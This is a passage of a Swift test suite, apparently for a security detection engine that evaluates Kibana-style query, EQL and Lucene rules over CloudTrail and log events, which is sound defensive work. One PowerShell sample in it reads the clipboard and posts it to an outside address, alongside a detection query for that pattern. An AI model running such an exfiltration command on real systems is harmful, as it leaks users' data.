import CloudTrail
import Events
import JSON
import Query
import Rules
import Testing

@testable import Detection

struct RuleBehaviourTests {
  private static let records = """
    {"eventID":"1","eventTime":"2026-01-01T00:00:00Z","eventName":"A","awsRegion":"eu-west-1","sourceIPAddress":"192.0.2.7","errorCode":"AccessDenied","apiVersion":"2010-05-08"}
    {"eventID":"2","eventTime":"2026-01-01T00:01:00Z","eventName":"B","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7"}
    {"eventID":"3","eventTime":"2026-01-01T00:02:00Z","eventName":"C","awsRegion":"us-east-2","sourceIPAddress":"iam.amazonaws.com","userIdentity":{"userName":"eve"}}
    """

  private static func sources(_ rule: Rule, _ text: String = records) throws -> [String] {
    try TestHunt([rule]).alerts(text).map { try $0.document["event"]?["id"]?.stringValue ?? "?" }.sorted()
  }

  @Test("A rule over scripts of PowerShell finds names as the field's analyzer cuts them")
  func scripts() throws {
    let scripts = [
      "$x = Get-Clipboard\\nInvoke-RestMethod -Uri http://203.0.113.9 -Body $x",
      "[Windows.Clipboard]::GetText() | invoke-restmethod -method post",
      // A longer name, its parts, another verb, and what is excepted.
      "Get-ClipboardHistory; Invoke-RestMethod",
      "Windows and Clipboard, Invoke-RestMethod",
      "Get-Clipboard; Invoke-WebRequest",
      "Get-Clipboard | Invoke-RestMethod # Approved-Helper",
    ]
    let events = scripts.enumerated().map { at, script in
      #"{"@timestamp":"2026-01-01T00:00:0\#(at)Z","event":{"id":"\#(at + 1)"},"#
        + #""powershell":{"file":{"script_block_text":"\#(script)"}}}"#
    }.joined(separator: "\n")
    let clipboard = """
      powershell.file.script_block_text: (("Get-Clipboard" or "Windows.Clipboard") and "Invoke-RestMethod")
        and not powershell.file.script_block_text: Approved-*
      """
    #expect(try Self.sources(.query(clipboard), events) == ["1", "2"])
  }

  struct FilterCase: Sendable, CustomStringConvertible {
    var name: String
    var filter: String
    var expected: [String]
    var description: String { name }
  }

  @Test(
    "A rule's filters narrow what its query matches",
    arguments: [
      FilterCase(
        name: "phrase",
        filter:
          #"{"meta":{"negate":false,"disabled":false,"type":"phrase"},"query":{"match_phrase":{"event.action":"A"}}}"#,
        expected: ["1"]),
      FilterCase(
        name: "negated phrase",
        filter: #"{"meta":{"negate":true,"disabled":false},"query":{"match_phrase":{"event.action":"A"}}}"#,
        expected: ["2", "3"]),
      FilterCase(
        name: "disabled",
        filter: #"{"meta":{"negate":false,"disabled":true},"query":{"match_phrase":{"event.action":"A"}}}"#,
        expected: ["1", "2", "3"]),
      FilterCase(
        name: "phrases",
        filter:
          #"{"meta":{},"query":{"bool":{"minimum_should_match":1,"should":[{"match_phrase":{"event.action":"A"}},{"match_phrase":{"event.action":"C"}}]}}}"#,
        expected: ["1", "3"]),
      FilterCase(
        name: "exists", filter: #"{"meta":{},"query":{"exists":{"field":"aws.cloudtrail.error_code"}}}"#,
        expected: ["1"]),
      FilterCase(
        name: "negated exists", filter: #"{"meta":{"negate":true},"query":{"exists":{"field":"source.ip"}}}"#,
        expected: ["3"]),
      FilterCase(
        name: "range of addresses",
        filter: #"{"meta":{},"query":{"range":{"source.ip":{"gte":"198.51.100.0","lt":"198.51.101.0"}}}}"#,
        expected: ["2"]),
      FilterCase(
        name: "range of times",
        filter:
          #"{"meta":{},"query":{"range":{"@timestamp":{"gt":"2026-01-01T00:00:00Z","lte":"2026-01-01T00:02:00Z"}}}}"#,
        expected: ["2", "3"]),
      FilterCase(
        name: "wildcard", filter: #"{"meta":{},"query":{"wildcard":{"cloud.region":{"value":"us-*"}}}}"#,
        expected: ["2", "3"]),
      FilterCase(
        name: "bool",
        filter:
          #"{"meta":{},"query":{"bool":{"must":[{"term":{"cloud.provider":"aws"}}],"must_not":[{"terms":{"event.action":["A","B"]}}]}}}"#,
        expected: ["3"]),
    ])
  func filters(_ made: FilterCase) throws {
    var rule = Rule.query("event.action: *")
    rule.filters = [try JSONValue(parsing: made.filter)]
    #expect(try Self.sources(rule) == made.expected)
    // The same with a query of its own, and as new terms.
    rule.query = "event.action: (A or C)"
    #expect(try Self.sources(rule) == made.expected.filter { $0 != "2" })
    var terms = try Rule.newTerms("event.action: *", ["event.action"], history: "now-1d")
    terms.filters = rule.filters
    #expect(try Self.sources(terms) == made.expected)
  }

  @Test("A rule that is not enabled takes no part")
  func disabled() throws {
    var rule = Rule.query("event.action: *")
    rule.isEnabled = false
    let hunt = TestHunt([rule])
    #expect(hunt.plan.rules.isEmpty)
    #expect(hunt.plan.unrunnable.isEmpty)
    #expect(try hunt.alerts(Self.records).isEmpty)
  }

  @Test("A rule in EQL or Lucene raises an alert for each event that matches")
  func otherLanguages() throws {
    var eql = Rule.query("", id: "eql")
    (eql.type, eql.language) = (.eql, .eql)
    eql.query =
      #"any where event.action in ("A", "C") and length(event.action) == 1 and not cloud.region : "US-east-?""#
    #expect(try Self.sources(eql) == ["1"])
    eql.eql = EQLParameters(eventCategoryOverride: "event.action")
    eql.query = "C where true"
    #expect(try Self.sources(eql) == ["3"])
    var lucene = Rule.query("", id: "lucene")
    lucene.language = .lucene
    lucene.query = "event.action:(A OR /[BD]/) AND NOT cloud.region:eu-*"
    #expect(try Self.sources(lucene) == ["2"])
  }

  @Test("An execution of an EQL rule takes the latest events of its window, those with an alert among them")
  func latestOfWindow() throws {
    var rule = Rule.query("event.action: *", id: "cap")
    rule.schedule = RuleSchedule(from: try DateMath("now-6m"), maxSignals: 1)
    // The first execution sees the first event; the next one all three.
    let earliest = try Self.sources(rule)
    (rule.type, rule.language, rule.query) = (.eql, .eql, "any where true")
    #expect(try Self.sources(rule) == ["1", "3"])
    #expect(earliest == ["1", "2"])
  }

  @Test("A rule in EQL that Elasticsearch refuses says so")
  func unrunnableEQL() throws {
    var refused = Rule.query("any where event.action == user.name", id: "refused")
    (refused.type, refused.language) = (.eql, .eql)
    let reasons = TestHunt([refused]).plan.unrunnable.map(\.reason)
    #expect(reasons.count == 1 && reasons[0].contains("Comparisons against fields"))
  }

  @Test("A sequence gives an alert of what its events have in common, and a building block for each of them")
  func sequence() throws {
    var rule = Rule.query("", id: "sequence")
    (rule.type, rule.language) = (.eql, .eql)
    rule.query = "sequence by user.name [any where event.action == \"A\"] [any where event.action == \"B\"]"
    rule.severityMapping = [SeverityMapping(field: "event.action", value: "A", severity: .critical)]
    func line(_ id: String, _ action: String, _ minute: Int, category: String) -> String {
      #"{"_id":"\#(id)","_index":"logs-aws.cloudtrail-default","_source":{"@timestamp":"2026-01-01T00:0\#(minute):00Z","#
        + #""event":{"action":"\#(action)","category":["iam","\#(category)"]},"user":{"name":"ops"},"host":{"id":"h\#(minute)"}}}"#
    }
    let alerts = try TestHunt([rule]).alerts(
      [line("1", "A", 1, category: "web"), line("2", "B", 2, category: "file")].joined(separator: "\n"))
    try #require(alerts.count == 1 && alerts[0].buildingBlocks.count == 2)
    let shell = try alerts[0].document
    #expect(shell["kibana.alert.group.id"]?.stringValue == alerts[0].id)
    #expect(shell["kibana.alert.depth"] == 2 && shell["kibana.alert.building_block_type"] == nil)
    #expect(shell["user"] == ["name": "ops"] && shell["host"] == nil && shell["event"]?["category"] == ["iam"])
    #expect(shell["kibana.alert.severity"] == "medium")
    let ancestors = try #require(shell["kibana.alert.ancestors"]?.arrayValue)
    #expect(ancestors.map { $0["type"]?.stringValue } == ["event", "signal", "event", "signal"])
    #expect(
      ancestors.map { $0["id"]?.stringValue } == [
        "1", alerts[0].buildingBlocks[0].id, "2", alerts[0].buildingBlocks[1].id,
      ])
    for (place, block) in alerts[0].buildingBlocks.enumerated() {
      let document = try block.document
      #expect(document["kibana.alert.building_block_type"] == "default")
      #expect(document["kibana.alert.group.id"]?.stringValue == alerts[0].id)
      #expect(document["kibana.alert.group.index"]?.integerValue == Int64(place))
      #expect(document["kibana.alert.severity"] == "medium" && document["kibana.alert.depth"] == 1)
    }
    #expect(shell["martlet"]?["sequence"]?["join_keys"] == [["field": "user.name", "value": "ops"]])
    #expect(alerts[0].actor == "ops" && alerts[0].action == nil)
  }

  @Test(
    "Of lists an alert on a sequence has the values that all have, and an empty list where they have none in common")
  func commonLists() throws {
    var rule = Rule.query("", id: "sequence")
    (rule.type, rule.language) = (.eql, .eql)
    rule.query = "sequence by user.name [any where event.action == \"A\"] [any where event.action == \"B\"]"
    func line(_ id: String, _ action: String, _ rest: String) -> String {
      #"{"_id":"\#(id)","_index":"filebeat-own","_source":{"@timestamp":"2026-01-01T00:0\#(id):00Z","event":{"action":"\#(action)"},"user":{"name":"ops"},\#(rest)}}"#
    }
    let first =
      #""own":{"same":["a","b"],"some":["a","b","a"],"none":["file"],"value":["x","y"],"other":["x"],"objects":[{"k":1}],"deep":{"list":["p"],"left":1},"gone":{"k":1}}"#
    let second =
      #""own":{"same":["a","b"],"some":["c","a"],"none":["authentication"],"value":"y","other":"z","objects":[{"k":1}],"deep":{"list":["q"],"right":1},"gone":{"k":2}}"#
    let alerts = try TestHunt([rule]).alerts([line("1", "A", first), line("2", "B", second)].joined(separator: "\n"))
    try #require(alerts.count == 1)
    #expect(
      try alerts[0].document["own"]
        == [
          "same": ["a", "b"], "some": ["a"], "none": [], "value": ["y"], "other": [], "objects": [],
          "deep": ["list": []],
        ])
  }

  @Test("An alert on a sequence of a host's events says of each what it was about, and where")
  func sequenceOfHost() throws {
    var rule = Rule.query("", id: "sequence")
    (rule.type, rule.language) = (.eql, .eql)
    rule.query = "sequence by host.id [process where true] [network where true]"
    func line(_ id: String, _ category: String, _ rest: String) -> String {
      #"{"_id":"\#(id)","_index":"filebeat-own","_source":{"@timestamp":"2026-01-01T00:0\#(id):00Z","event":{"category":["\#(category)"],"type":["start"]},"host":{"id":"h","name":"web-1"},\#(rest)}}"#
    }
    let lines = [
      line("1", "process", #""process":{"name":"curl"}"#), line("2", "network", #""destination":{"ip":"203.0.113.9"}"#),
    ]
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    let events = try #require(try alerts.first?.document["martlet"]?["sequence"]?["events"]?.arrayValue)
    #expect(
      events.map { event in ["category", "type", "object", "host"].map { event[$0]?.stringValue } } == [
        ["process", "start", "curl", "web-1"], ["network", "start", "203.0.113.9", "web-1"],
      ])
  }

  @Test("A sequence that begins with a missing event is found once that event has left, though nothing else came")
  func missingEventLeaves() throws {
    var rule = Rule.query("", id: "sequence")
    (rule.type, rule.language) = (.eql, .eql)
    func item(_ action: String) -> String { "[any where event.action == \"\(action)\"]" }
    rule.query = "sequence with maxspan=10m !\(item("X")) \(item("A")) \(item("B"))"
    rule.schedule = RuleSchedule(from: try DateMath("now-15m"))
    let lines = [("X", 1), ("A", 8), ("B", 9)].map { action, minute in
      #"{"eventID":"\#(action)","eventTime":"2026-01-01T00:0\#(minute):00Z","eventName":"\#(action)"}"#
    }
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    #expect(alerts.map(\.tick.iso8601) == ["2026-01-01T00:20:00.000Z"])
  }

  @Test("Rules over alerts run after the others of the same time, and raise nothing on what they raised themselves")
  func overAlerts() throws {
    let events = Rule.query("event.action: (A or B)", id: "events")
    var counting = Rule.query("kibana.alert.rule.name: *", id: "counting")
    counting.index = [".alerts-security.*"]
    counting.type = .threshold
    counting.threshold = ThresholdParameters(fields: ["kibana.alert.rule.rule_id"], value: 2)
    var all = Rule.query("*", id: "all")
    all.index = [".alerts-security.alerts-default"]
    // A rule that reads every stream does not read alerts.
    var every = Rule.query("kibana.alert.uuid: *", id: "every")
    every.index = ["*"]
    let alerts = try TestHunt([all, counting, every, events]).alerts(Self.records)
    let told = try alerts.map { alert in
      let document = try alert.document
      let depth = document["kibana.alert.depth"]?.integerValue ?? -1
      return "\(alert.ruleID) \(alert.tick.iso8601.dropFirst(11).prefix(5)) \(depth)"
    }.sorted()
    // The two on events, what counts them, what is raised on each of these three, and what counts the two on the two.
    #expect(
      told == [
        "all 00:00 2", "all 00:05 2", "all 00:05 3", "counting 00:05 2", "counting 00:05 3", "events 00:00 1",
        "events 00:05 1",
      ], "\(told)")
    let counted = try #require(
      try alerts.map { try $0.document }.first {
        $0["kibana.alert.rule.rule_id"] == "counting" && $0["kibana.alert.depth"] == 2
      })
    let ancestors = try #require(counted["kibana.alert.ancestors"]?.arrayValue)
    #expect(ancestors.map { $0["type"]?.stringValue } == ["event", "signal", "event", "signal"])
    #expect(counted["kibana.alert.threshold_result"]?["terms"]?[0]?["value"] == "events")
  }

  @Test("A rule on a saved query runs with its own query and filters, and without any says why it does not")
  func savedQuery() throws {
    var rule = Rule.query("event.action: A", id: "saved")
    (rule.type, rule.savedID) = (.savedQuery, "s")
    #expect(try Self.sources(rule) == Self.sources(.query("event.action: A")))
    rule.query = nil
    #expect(TestHunt([rule]).plan.unrunnable.first?.reason.contains("has none of its own") == true)
  }

  @Test("A rule that cannot run says why and leaves the others alone")
  func unrunnable() throws {
    let eql = Rule(ruleID: "eql", name: "EQL", type: .eql, severity: .low, riskScore: 1)
    let hunt = TestHunt([eql, .query("event.action: (", id: "broken"), .query("event.action: A")])
    #expect(hunt.plan.unrunnable.map(\.rule.ruleID) == ["eql", "broken"])
    #expect(hunt.plan.unrunnable.allSatisfy { !$0.reason.isEmpty })
    #expect(try hunt.alerts(Self.records).count == 1)
  }

  @Test("The highest severity that a value of the event maps to is the alert's")
  func severityMapping() throws {
    var rule = Rule.query("event.action: *")
    rule.severityMapping = [
      SeverityMapping(field: "event.action", value: "A", severity: .low),
      SeverityMapping(field: "cloud.region", value: "eu-west-1", severity: .critical),
      SeverityMapping(field: "event.action", value: "B", severity: .high),
    ]
    let alerts = try TestHunt([rule]).alerts(Self.records)
    #expect(alerts.map(\.severity) == [.critical, .high, .medium])
    #expect(try alerts.map { try $0.document["kibana.alert.severity"] } == ["critical", "high", "medium"])
    #expect(try alerts.map { try $0.document["kibana.alert.rule.severity"] } == ["medium", "medium", "medium"])
  }

  @Test("A number of the event that the risk score maps to is the alert's")
  func riskScoreMapping() throws {
    var rule = Rule.query("event.action: *")
    rule.riskScoreMapping = [RiskScoreMapping(field: "event.risk_score")]
    rule.riskScoreMapping.append(RiskScoreMapping(field: "event.action", value: "x", riskScore: 1))
    let scores = ["73", "\"12\"", "101", "\"much\"", "[5,99.5]", "null", "67.5", "\"\"", "[150,30]", "true"]
    let lines = scores.enumerated().map {
      #"{"_id":"\#($0)","@timestamp":"2026-01-01T00:00:0\#($0)Z","event":{"action":"x","risk_score":\#($1)}}"#
    }
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    #expect(alerts.map(\.riskScore) == [73, 12, 47, 47, 99.5, 47, 67.5, 0, 30, 47])
    #expect(
      try alerts.map { try $0.document["kibana.alert.risk_score"] }
        == [73, 12, 47, 47, .double(99.5), 47, .double(67.5), 0, 30, 47])
  }

  @Test("Only text and whole numbers set a severity, and a list gives no name")
  func oddOverrides() throws {
    var rule = Rule.query("event.action: *")
    rule.severityMapping = [SeverityMapping(field: "event.code", value: "5.9", severity: .critical)]
    rule.ruleNameOverride = "event.code"
    let values = ["5", "5.9", "\"5.9\"", "\"5\"", "true", "[\"5.9\"]", "6"]
    let lines = values.enumerated().map {
      #"{"_id":"\#($0)","@timestamp":"2026-01-01T00:00:0\#($0)Z","event":{"action":"x","code":\#($1)}}"#
    }
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    #expect(alerts.map(\.severity) == [.medium, .medium, .critical, .medium, .medium, .critical, .medium])
    #expect(
      alerts.map(\.ruleName) == [
        "A query rule", "A query rule", "5.9", "5", "A query rule", "A query rule", "A query rule",
      ])
    rule.severityMapping = [SeverityMapping(field: "list.code", value: "a", severity: .critical)]
    let nested = #"{"@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x"},"list":[{"code":"a"}]}"#
    #expect(try TestHunt([rule]).alerts(nested).map(\.severity) == [.medium])
  }

  @Test("The severity of the schema is a number, with which an entry's value is rounded down to compare")
  func severityField() throws {
    var rule = Rule.query("event.action: *")
    rule.severityMapping = [
      SeverityMapping(field: "event.severity", value: "23.7", severity: .critical),
      SeverityMapping(field: "event.code", value: "24", severity: .high),
    ]
    let events = [#""severity":23"#, #""severity":"23""#, #""severity":"23.7""#, #""severity":24"#, #""code":24.0"#]
    let lines = events.enumerated().map {
      #"{"_id":"\#($0)","@timestamp":"2026-01-01T00:00:0\#($0)Z","event":{"action":"x",\#($1)}}"#
    }
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    #expect(alerts.map(\.severity) == [.critical, .medium, .medium, .medium, .high])
  }

  @Test("A reason names all values of a field and leaves out a dash; a comma follows a port, not a bare address")
  func reason() throws {
    func reason(_ members: String) throws -> String? {
      let event = #"{"_id":"1","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x"},\#(members)}"#
      return try TestHunt([Rule.query("event.action: *")]).alerts(event).first?.document["kibana.alert.reason"]?
        .stringValue
    }
    let end = " created medium alert A query rule."
    #expect(
      try reason(#""source":{"ip":"192.0.2.1","port":443},"user":{"name":["a","b"]}"#)
        == "event with source 192.0.2.1:443, by a, b" + end)
    #expect(
      try reason(#""source":{"ip":"192.0.2.1"},"user":{"name":"-"},"host":{"name":"h"}"#)
        == "event with source 192.0.2.1 on h" + end)
    #expect(try reason(#""source":{"address":"a.example"},"process":{"name":"p"}"#) == "event with process p," + end)
  }

  @Test("Spellings of one value are one where alike alerts are folded")
  func foldedSpellings() throws {
    func folded(_ type: RuleType, _ field: String, _ values: [String]) throws -> [JSONValue?] {
      var rule = Rule.query("event.action: *")
      rule.type = type
      if type == .eql { (rule.language, rule.query) = (.eql, "any where event.action != null") }
      rule.alertSuppression = AlertSuppression(groupBy: [field])
      let lines = values.enumerated().map {
        #"{"_id":"\#($0)","@timestamp":"2026-01-01T00:00:1\#($0)Z","event":{"action":"x"},"\#(field)":\#($1)}"#
      }
      return try TestHunt([rule]).alerts(lines.joined(separator: "\n")).map {
        try $0.document["kibana.alert.suppression.terms"]?.arrayValue?.first?["value"]
      }
    }
    #expect(try folded(.query, "agent.version", ["10", "\"10\""]) == ["10"])
    #expect(try folded(.eql, "agent.version", ["10", "\"10\""]) == [["10"]])
    #expect(try folded(.query, "source.port", ["443", "\"443\""]) == [443])
    #expect(try folded(.eql, "source.ip", ["\"2001:db8:0::1\"", "\"2001:DB8::1\""]) == [["2001:db8::1"]])
  }

  @Test("Of a group the alert stands on the event that is the oldest by the rule's own time")
  func oldestByOverride() throws {
    var rule = Rule.query("event.action: *")
    rule.timestampOverride = "event.ingested"
    rule.alertSuppression = AlertSuppression(groupBy: ["agent.name"])
    let lines = [
      #"{"_id":"a","@timestamp":"2026-01-01T00:03:00Z","event":{"action":"x"},"agent":{"name":"n"}}"#,
      #"{"_id":"b","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x","ingested":"2026-01-01T00:04:00Z"},"agent":{"name":"n"}}"#,
    ]
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    #expect(try alerts.map { try $0.document["kibana.alert.original_time"] } == ["2026-01-01T00:03:00.000Z"])
  }

  @Test(
    "The event's own members are told as far as their fields can hold them, and its id and index not as the alert's")
  func cleanedOriginal() throws {
    let event =
      #"{"_id":"1","_index":"filebeat-1","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x","created":true,"kind":"event"}}"#
    let document = try #require(TestHunt([Rule.query("event.action: *")]).alerts(event).first).document
    #expect(document["_id"] == nil && document["_index"] == nil)
    #expect(document["kibana.alert.original_event.created"] == nil)
    #expect(document["kibana.alert.original_event.kind"] == "event")
  }

  @Test("An alert of new terms says how much of its history was given")
  func historyCoverage() throws {
    let rule = try Rule.newTerms("event.action: *", ["user.name"], history: "now-2d")
    func line(_ id: Int, _ time: String, _ user: String) -> String {
      #"{"_id":"\#(id)","@timestamp":"\#(time)","event":{"action":"x"},"user":{"name":"\#(user)"}}"#
    }
    let lines = [
      line(1, "2026-01-01T00:00:30Z", "a"), line(2, "2026-01-02T12:00:30Z", "b"), line(3, "2026-01-05T00:00:30Z", "c"),
    ]
    let result = try TestHunt([rule]).run([[lines.joined(separator: "\n")]])
    let histories = try TestHunt.alerts(result).map { try $0.document["martlet"]?["evidence"]?["history"] }
    #expect(histories.map { $0?["complete"] } == [false, false, true])
    #expect(histories[1]?["covered_from"] == "2026-01-01T00:00:30.000Z")
    #expect(histories[2]?["covered_from"] == histories[2]?["from"])
    // The first execution's whole window lies in what was given, and nothing of its history.
    #expect(histories[0]?["covered_from"] == "2026-01-01T00:00:30.000Z")
    let short = try #require(result.shortHistory)
    // From the first event to the end of the first window, of two days up to there.
    #expect(short.alerts == 2 && short.asked == 48 * 3_600_000)
    #expect(short.given == 270_000)
  }

  /// What the alert on the last of some lines says of its history.
  private func history(_ rule: Rule, _ lines: [String], workers: Int = 1) throws -> JSONValue? {
    let result = try TestHunt([rule]).run(
      (0..<workers).map { worker in
        [lines.enumerated().filter { $0.offset % workers == worker }.map(\.element).joined(separator: "\n")]
      })
    let last = try TestHunt.alerts(result).max { $0.eventTime < $1.eventTime }
    return try last?.document["martlet"]?["evidence"]?["history"]
  }

  @Test(
    "A history counts from the earliest event that the rule can see, whatever other data streams hold",
    arguments: [1, 2])
  func historyOfOwnStreams(workers: Int) throws {
    let rule = try Rule.newTerms("event.action: *", ["user.name"], history: "now-7d")
    let trail = #"{"eventID":"1","eventTime":"2026-01-05T00:00:30Z","eventName":"x","userIdentity":{"userName":"a"}}"#
    func old(_ dataset: String) -> String {
      #"{"_id":"2","@timestamp":"2025-06-01T00:00:00Z","event":{"action":"x"},"data_stream":{"type":"logs","dataset":"\#(dataset)","namespace":"default"}}"#
    }
    let others = try history(rule, [old("okta.system"), trail], workers: workers)
    #expect(others?["complete"] == false && others?["covered_from"] == "2026-01-05T00:00:30.000Z")
    // Of the stream that the rule reads, an event counts that it does not match.
    let own = old("aws.cloudtrail").replacing(#""action":"x""#, with: #""code":"x""#)
    #expect(try history(rule, [own, trail], workers: workers)?["complete"] == true)
    let record = #"{"eventID":"3","eventTime":"2025-06-01T00:00:00Z","eventName":"y"}"#
    #expect(try history(rule, [record, trail], workers: workers)?["complete"] == true)
    var elsewhere = rule
    elsewhere.index = ["logs-okta.*"]
    let okta = old("okta.system").replacing("2025-06-01T00:00:00Z", with: "2026-01-05T00:00:30Z").replacing(
      #""event""#, with: #""user":{"name":"a"},"event""#)
    #expect(try history(elsewhere, [record, okta], workers: workers)?["complete"] == false)
  }

  @Test("An event of an odd time gives no history", arguments: ["1970-01-01", "2005-12-31", "2007-01-01"])
  func historyWithOddTimes(day: String) throws {
    let rule = try Rule.newTerms("event.action: *", ["user.name"], history: "now-7d")
    let trail = #"{"eventID":"1","eventTime":"2026-01-05T00:00:30Z","eventName":"x","userIdentity":{"userName":"a"}}"#
    let odd = [
      #"{"eventID":"2","eventTime":"\#(day)T00:00:00Z","eventName":"y"}"#,
      #"{"_id":"2","@timestamp":"\#(day)T00:00:00Z","event":{"action":"y"},"data_stream":{"dataset":"aws.cloudtrail"}}"#,
    ]
    for event in odd {
      let history = try history(rule, [event, trail])
      #expect(history?["complete"] == false && history?["covered_from"] == "2026-01-05T00:00:30.000Z")
    }
    // Where no time is credible nothing of a history is known.
    let ahead = trail.replacing("2026-01-05", with: "2026-12-24")
    #expect(try history(rule, [ahead])?["complete"] == false)
  }

  @Test("A history counts by the rule's own time field")
  func historyByOwnTime() throws {
    var rule = try Rule.newTerms("event.action: x", ["user.name"], history: "now-7d")
    rule.timestampOverride = "event.start"
    let new =
      #"{"_id":"1","@timestamp":"2026-01-05T00:00:30Z","event":{"action":"x","start":"2026-01-05T00:00:30Z"},"user":{"name":"a"}}"#
    // Its `@timestamp` is old, and its own time is not.
    let moved =
      #"{"_id":"2","@timestamp":"2025-06-01T00:00:00Z","event":{"action":"y","start":"2026-01-04T00:00:00Z"}}"#
    #expect(try history(rule, [moved, new])?["covered_from"] == "2026-01-04T00:00:00.000Z")
    let lacking = #"{"_id":"3","@timestamp":"2025-06-01T00:00:00Z","event":{"action":"y"}}"#
    #expect(try history(rule, [lacking, new])?["complete"] == true)
    rule.timestampOverrideFallbackDisabled = true
    #expect(try history(rule, [lacking, new])?["complete"] == false)
    // Records have no such field: the time of an integration's is that of the record.
    rule.timestampOverride = "event.ingested"
    let record = #"{"eventID":"4","eventTime":"2025-06-01T00:00:00Z","eventName":"y"}"#
    let stored = new.replacing(#""start""#, with: #""ingested""#)
    #expect(try history(rule, [record, stored])?["complete"] == true)
  }

  @Test("A document has what time of ingestion stands in it and no other; a record has its own time")
  func ingestion() throws {
    var rule = Rule.query("event.action: x")
    rule.timestampOverride = "event.ingested"
    rule.schedule.maxSignals = 2
    func document(_ id: String, _ second: Int, _ ingested: Int?) -> String {
      let more = ingested.map { #","ingested":"2026-01-01T00:00:0\#($0)Z""# } ?? ""
      return
        #"{"_id":"\#(id)","@timestamp":"2026-01-01T00:00:0\#(second)Z","event":{"action":"x","id":"\#(id)"\#(more)}}"#
    }
    let lines = [document("lacks", 1, nil), document("late", 2, 9), document("early", 3, 4)].joined(separator: "\n")
    func ids(_ lines: String) throws -> [JSONValue?] {
      try TestHunt([rule]).alerts(lines).map { try $0.document["event"]?["id"] }
    }
    // Under the cap the one without the override comes last, though it happened first.
    #expect(try ids(lines) == ["early", "late", "lacks"] || ids(lines).prefix(2) == ["early", "late"])
    rule.schedule.maxSignals = 100
    rule.timestampOverrideFallbackDisabled = true
    #expect(try ids(lines) == ["early", "late"])
    let record = #"{"eventID":"r","eventTime":"2026-01-01T00:00:01Z","eventName":"x"}"#
    #expect(try ids(record) == ["r"])
    let asked = Rule.query("event.action: x and event.ingested: *")
    #expect(try TestHunt([asked]).alerts(lines).count == 2)
  }

  @Test("Null is no value, and a time may stand in a list of one")
  func nullsAndLists() throws {
    let lines = [
      #"{"_id":"1","@timestamp":["2026-01-01T00:00:00Z"],"event":{"action":"x"},"user":{"name":null}}"#,
      #"{"_id":"2","@timestamp":"2026-01-01T00:00:01Z","event":{"action":["x",null]},"user":null}"#,
    ]
    #expect(
      try TestHunt([.query("event.action: x and not user.name: *")]).alerts(lines.joined(separator: "\n")).count == 2)
    let two = #"{"_id":"3","@timestamp":["2026-01-01T00:00:00Z","2026-01-02T00:00:00Z"],"event":{"action":"x"}}"#
    #expect(try TestHunt([.query("event.action: x")]).alerts(two).isEmpty)
  }

  @Test("Under a cap a query rule takes events by its own timestamp, those that lack it last")
  func orderUnderCap() throws {
    var rule = Rule.query("event.action: *")
    rule.timestampOverride = "event.end"
    rule.schedule.maxSignals = 2
    func line(_ id: String, _ time: String, end: String?) -> String {
      let end = end.map { #","end":"2026-01-01T00:\#($0)Z""# } ?? ""
      return #"{"_id":"\#(id)","@timestamp":"2026-01-01T00:\#(time)Z","event":{"action":"x"\#(end)}}"#
    }
    let lines = [
      line("lacks", "01:00", end: nil), line("late", "00:30", end: "02:00"), line("early", "03:00", end: "01:30"),
    ]
    let alerts = try TestHunt([rule]).alerts(lines.joined(separator: "\n"))
    #expect(alerts.prefix(2).map(\.sourceID) == ["early", "late"])
  }

  @Test("An execution of a query rule creates no more than a thousand alerts unless a setting raises that")
  func mostQueryAlerts() throws {
    var rule = Rule.query("event.action: *")
    rule.schedule.maxSignals = 5_000
    let lines = (0..<1_200).map { #"{"_id":"\#($0)","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x"}}"# }
    let result = try TestHunt([rule]).run([[lines.joined(separator: "\n")]])
    #expect(result.outcomes[0].cap == 1_000 && result.outcomes[0].cuts.first?.count == 200)
    // The next execution that still sees them creates the rest.
    #expect(result.alertCount == 1_200 && result.outcomes[0].lost == 0)
  }

  @Test("A field of the event gives the alert its name where the rule says so and the event has it")
  func nameOverride() throws {
    var rule = Rule.query("event.action: *")
    rule.ruleNameOverride = "user.name"
    let alerts = try TestHunt([rule]).alerts(Self.records)
    #expect(alerts.map(\.ruleName) == ["A query rule", "A query rule", "eve"])
    #expect(try alerts[2].document["kibana.alert.rule.name"] == "eve")
  }

  @Test("An event is read by the rules whose index patterns name its data stream")
  func indexPatterns() throws {
    let events = [
      ("none", #""event":{"action":"x"}"#),
      ("stream", #""event":{"action":"x"},"data_stream":{"type":"logs","dataset":"okta.system","namespace":"prod"}"#),
      ("dotted", #""event":{"action":"x"},"data_stream.dataset":"okta.system""#),
    ].map { #"{"_id":"\#($0.0)","@timestamp":"2026-01-01T00:00:00Z","tags":["\#($0.0)"],\#($0.1)}"# }
    let hit =
      #"{"_index":"my-index","_id":"hit","_source":{"@timestamp":"2026-01-01T00:00:00Z","tags":["hit"],"event":{"action":"x"}}}"#
    let trail = #"{"eventID":"1","eventTime":"2026-01-01T00:00:00Z","eventName":"x"}"#
    func read(_ index: [String]?) throws -> Set<String> {
      var rule = Rule.query("event.action: x")
      rule.index = index
      let alerts = try TestHunt([rule]).alerts((events + [hit, trail]).joined(separator: "\n"))
      return Set(try alerts.map { try $0.document["tags"]?[0]?.stringValue ?? "trail" })
    }
    #expect(try read(["filebeat-*"]) == ["none"])
    #expect(try read(["logs-okta.system-prod"]) == ["stream"])
    #expect(try read(["logs-*"]) == ["stream", "dotted", "trail"])
    #expect(try read(["*", "-logs-*"]) == ["none", "hit"])
    #expect(try read(["my-index"]) == ["hit"])
    #expect(try read(nil) == ["none", "stream", "dotted", "trail"])
    #expect(try read(["winlogbeat-*"]) == [])
  }

  @Test("An event without the timestamp that overrides is passed over when falling back is forbidden")
  func noFallback() throws {
    var rule = Rule.query("event.action: *")
    rule.timestampOverride = "event.start"
    rule.timestampOverrideFallbackDisabled = true
    let lines = [
      #"{"_id":"a","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x","id":"a"}}"#,
